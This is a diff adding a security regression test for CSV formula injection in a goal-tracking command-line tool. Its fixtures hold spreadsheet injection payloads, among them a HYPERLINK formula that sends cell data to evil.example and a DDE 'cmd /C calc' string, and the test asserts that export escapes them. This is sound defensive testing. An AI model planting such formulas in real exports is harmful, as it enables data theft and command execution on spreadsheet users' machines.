@@ -6,6 +6,8 @@ reproduced on the code before its fix and fails there. SECURITY.md gives the thr
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import subprocess
 from pathlib import Path
@@ -308,3 +310,56 @@ def test_edit_options_with_control_characters_are_refused(run, tmp_path, args) -
     assert "control character" in result.output
     assert_safe(result.output)
     assert (data / "theme.yaml").read_bytes() == before
+
+
+# --- 4. CSV formula injection ----------------------------------------------------------------
+
+
+def _csv(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_csv_cells_starting_with_formula_characters_are_neutralised(run, tmp_path) -> None:
+    goals = """
+        - id: g1
+          title: '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+          due: 2026-11-30
+          source: {document: doc}
+          kpis:
+            - id: k1
+              kind: numeric
+              title: "+cmd|' /C calc'!A0"
+              target: -10
+              direction: decrease
+              unit: "@SUM(A1:A9)"
+              baseline: {value: 0, date: 2025-01-01}
+              source: {document: doc}
+              measurements:
+                - {date: 2026-01-31, value: -2.5}
+        - id: g2
+          title: "-2+3"
+          source: {document: doc}
+        """
+    data = data_with(tmp_path, {"theme.yaml": theme_file(goals)})
+    text = data / "sources.yaml"
+    text.write_text(text.read_text().replace("name: The Board", "name: '=1+1'"))
+    result = run("status", "--data", data, "--as-of", AS_OF, "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = {r["id"]: r for r in _csv(result.stdout)}
+    assert rows["g1"]["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert rows["k1"]["title"] == "'+cmd|' /C calc'!A0"
+    assert rows["k1"]["target"] == "'-10 @SUM(A1:A9)"
+    assert rows["g2"]["title"] == "'-2+3"
+    assert rows["k1"]["latest_value"] == "-2.5"  # a number stays a number
+    assert float(rows["k1"]["progress"]) == pytest.approx(0.25)
+    for row in rows.values():
+        for value in row.values():
+            assert not value or value[0] not in "=+-@\t\r" or value == "-2.5", row
+    result = run("groups", "--data", data, "--as-of", AS_OF, "--format", "csv")
+    assert result.exit_code == 0, result.output
+    board = _csv(result.stdout)[0]
+    assert board["name"] == "'=1+1"
+    assert board["goals"] == "2"
+    result = run("overdue", "--data", data, "--as-of", "2027-01-01", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    assert {r["title"][:2] for r in _csv(result.stdout)} <= {"'=", "'+", "'-"}
